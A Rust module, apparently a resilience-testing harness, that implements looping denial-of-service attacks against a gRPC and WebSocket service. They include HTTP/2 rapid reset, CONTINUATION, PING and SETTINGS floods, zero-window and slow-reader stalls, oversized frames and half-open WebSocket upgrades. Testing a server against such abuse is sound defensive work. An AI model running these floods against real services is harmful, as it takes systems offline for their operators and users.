//! The kinds of abuse. Each is one connection that goes on until it is cut, and then comes again.

use std::{
    io,
    net::{IpAddr, SocketAddr},
    time::Duration,
};

use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::{
        TcpSocket, TcpStream,
        tcp::{OwnedReadHalf, OwnedWriteHalf},
    },
    time::sleep,
};

use crate::frames::{
    CONTINUATION, DATA, EMPTY_MESSAGE, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, RST_STREAM,
    SETTINGS, WINDOW_UPDATE, frame, head, line, settings,
};

const LIST_ZONES: &str = "/jingqi.v1.TruckPassService/ListZones";
const REFLECTION: &str = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";
const SHAKE: &str = "GET /v1/line HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\
    Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\
    Sec-WebSocket-Protocol: jingqi.v1+json\r\n";
/// How long an attacker rests before it comes again.
const REST: Duration = Duration::from_millis(5);
const FOR_EVER: Duration = Duration::from_hours(1);

macro_rules! kinds {
    ($($kind:ident = $name:literal;)+) => {
        /// A kind of abuse.
        #[derive(Clone, Copy, PartialEq, Eq)]
        pub enum Kind { $($kind,)+ }

        impl Kind {
            pub const ALL: &[Self] = &[$(Self::$kind,)+];

            pub const fn name(self) -> &'static str {
                match self { $(Self::$kind => $name,)+ }
            }
        }
    };
}

kinds! {
    Silent = "silent";
    PrefaceOnly = "preface-only";
    WindowZero = "window-zero";
    SlowReader = "slow-reader";
    RapidReset = "rapid-reset";
    Continuation = "continuation";
    Pings = "pings";
    Settings = "settings";
    LargeHeads = "large-heads";
    NeverFinished = "streams-never-finished";
    EndlessBodies = "endless-bodies";
    EmptyData = "empty-data";
    Churn = "open-and-close";
    LargeMessages = "large-messages";
    LinePings = "line-pings";
    LineSilent = "line-silent";
    LineLarge = "line-large-frames";
}

/// Who is attacked, and from where.
#[derive(Clone, Copy)]
pub struct Target {
    pub grpc: SocketAddr,
    pub web: SocketAddr,
    pub from: IpAddr,
}

/// Attacks on one connection after the other.
pub async fn run(kind: Kind, target: Target) {
    loop {
        // Cut or refused: that is what is wanted.
        let _ = once(kind, target).await;
        sleep(REST).await;
    }
}

async fn once(kind: Kind, target: Target) -> io::Result<()> {
    let web = matches!(kind, Kind::LinePings | Kind::LineSilent | Kind::LineLarge);
    let socket = TcpSocket::new_v4()?;
    socket.set_reuseaddr(true)?;
    if kind == Kind::SlowReader || kind == Kind::WindowZero {
        socket.set_recv_buffer_size(4 * 1024)?;
    }
    socket.bind(SocketAddr::new(target.from, 0))?;
    let stream = socket.connect(if web { target.web } else { target.grpc }).await?;
    match kind {
        Kind::Silent => hold(stream).await,
        Kind::Churn => {
            let (_, mut writer) = stream.into_split();
            writer.write_all(&[PREFACE, &settings(65_535)].concat()).await
        }
        Kind::LinePings | Kind::LineSilent | Kind::LineLarge => by_line(kind, stream).await,
        _ => by_frames(kind, stream).await,
    }
}

/// Reads until the other end is tired of it.
async fn hold(mut stream: TcpStream) -> io::Result<()> {
    let mut buffer = vec![0; 4 * 1024];
    while stream.read(&mut buffer).await? > 0 {}
    Ok(())
}

async fn by_frames(kind: Kind, stream: TcpStream) -> io::Result<()> {
    let (reader, mut writer) = stream.into_split();
    let window = if kind == Kind::WindowZero { 0 } else { 0x7fff_ffff };
    let more = frame(WINDOW_UPDATE, 0, 0, &0x7000_0000_u32.to_be_bytes());
    writer.write_all(&[PREFACE, &settings(window), &more].concat()).await?;
    let reads = async {
        match kind {
            Kind::WindowZero => sleep(FOR_EVER).await,
            Kind::SlowReader => return slowly(reader).await,
            _ => return to_the_end(reader).await,
        }
        Ok(())
    };
    tokio::select! {
        read = reads => read,
        wrote = writes(kind, writer) => wrote,
    }
}

async fn to_the_end(mut reader: OwnedReadHalf) -> io::Result<()> {
    let mut buffer = vec![0; 64 * 1024];
    while reader.read(&mut buffer).await? > 0 {}
    Ok(())
}

/// 1 KiB each 50 ms.
async fn slowly(mut reader: OwnedReadHalf) -> io::Result<()> {
    let mut buffer = vec![0; 1_024];
    while reader.read(&mut buffer).await? > 0 {
        sleep(Duration::from_millis(50)).await;
    }
    Ok(())
}

async fn writes(kind: Kind, mut writer: OwnedWriteHalf) -> io::Result<()> {
    let flood = match kind {
        Kind::Pings => frame(PING, 0, 0, &[7; 8]).repeat(1_000),
        Kind::Settings => frame(SETTINGS, 0, 0, &[]).repeat(1_000),
        Kind::Continuation => {
            writer.write_all(&frame(HEADERS, 0, 1, &head(LIST_ZONES, 0))).await?;
            frame(CONTINUATION, 0, 1, &[0, 1, b'a', 1, b'b']).repeat(500)
        }
        Kind::EmptyData => {
            writer.write_all(&frame(HEADERS, END_HEADERS, 1, &head(LIST_ZONES, 0))).await?;
            frame(DATA, 0, 1, &[]).repeat(1_000)
        }
        _ => Vec::new(),
    };
    let mut id = 1;
    loop {
        if flood.is_empty() {
            let (sent, rest) = calls(kind, &mut id);
            writer.write_all(&sent).await?;
            sleep(rest).await;
        } else {
            writer.write_all(&flood).await?;
        }
    }
}

/// A hundred calls of a kind, and how long to rest after them.
fn calls(kind: Kind, id: &mut u32) -> (Vec<u8>, Duration) {
    let mut sent = Vec::new();
    let begun = |flags, path, padding, id| frame(HEADERS, flags, id, &head(path, padding));
    for call in 0..100 {
        match kind {
            Kind::PrefaceOnly => return (Vec::new(), FOR_EVER),
            // Answers that are worth to be kept: each of reflection is large.
            Kind::WindowZero if call % 2 == 0 => {
                sent.extend(begun(END_HEADERS, REFLECTION, 0, *id));
                let symbol = b"jingqi.v1.ConversationService";
                let asked = [&[0x22, 29][..], symbol].concat();
                let message = [&[0, 0, 0, 0, 31][..], &asked].concat();
                sent.extend(frame(DATA, 0, *id, &message.repeat(10)));
            }
            Kind::WindowZero | Kind::SlowReader => {
                sent.extend(begun(END_HEADERS, LIST_ZONES, 0, *id));
                sent.extend(frame(DATA, END_STREAM, *id, &EMPTY_MESSAGE));
            }
            Kind::RapidReset => {
                sent.extend(begun(END_HEADERS | END_STREAM, LIST_ZONES, 0, *id));
                sent.extend(frame(RST_STREAM, 0, *id, &[0, 0, 0, 8]));
            }
            Kind::LargeHeads => sent.extend(begun(END_HEADERS, LIST_ZONES, 7_000, *id)),
            Kind::EndlessBodies => {
                sent.extend(begun(END_HEADERS, LIST_ZONES, 0, *id));
                let body = [&[0, 0, 0, 0xff, 0xff][..], &[7; 2_000]].concat();
                sent.extend(frame(DATA, 0, *id, &body));
            }
            Kind::LargeMessages => {
                sent.extend(begun(END_HEADERS, LIST_ZONES, 0, *id));
                let body = [&[0, 0, 1, 0x11, 0x70][..], &[7; 14_000]].concat();
                sent.extend(frame(DATA, 0, *id, &body));
                for _ in 0..4 {
                    sent.extend(frame(DATA, 0, *id, &[7; 14_000]));
                }
                sent.extend(frame(DATA, END_STREAM, *id, &[]));
            }
            _ => sent.extend(begun(END_HEADERS, LIST_ZONES, 0, *id)),
        }
        *id += 2;
        if *id > 0x7fff_0000 {
            return (sent, FOR_EVER);
        }
    }
    let rest = match kind {
        Kind::SlowReader | Kind::RapidReset => Duration::ZERO,
        _ => Duration::from_millis(20),
    };
    (sent, rest)
}

async fn by_line(kind: Kind, stream: TcpStream) -> io::Result<()> {
    let (reader, mut writer) = stream.into_split();
    writer.write_all(SHAKE.as_bytes()).await?;
    let writes = async {
        if kind == Kind::LineSilent {
            // A half-open upgrade: the head never ends.
            sleep(FOR_EVER).await;
        }
        writer.write_all(b"\r\n").await?;
        let flood = match kind {
            Kind::LinePings => {
                let ping = [line(1, br#"{"ping":{}}"#), line(9, b"")].concat();
                ping.repeat(500)
            }
            _ => line(1, &vec![b' '; 200_000]),
        };
        loop {
            writer.write_all(&flood).await?;
        }
    };
    tokio::select! {
        read = to_the_end(reader) => read,
        wrote = writes => wrote,
    }
}
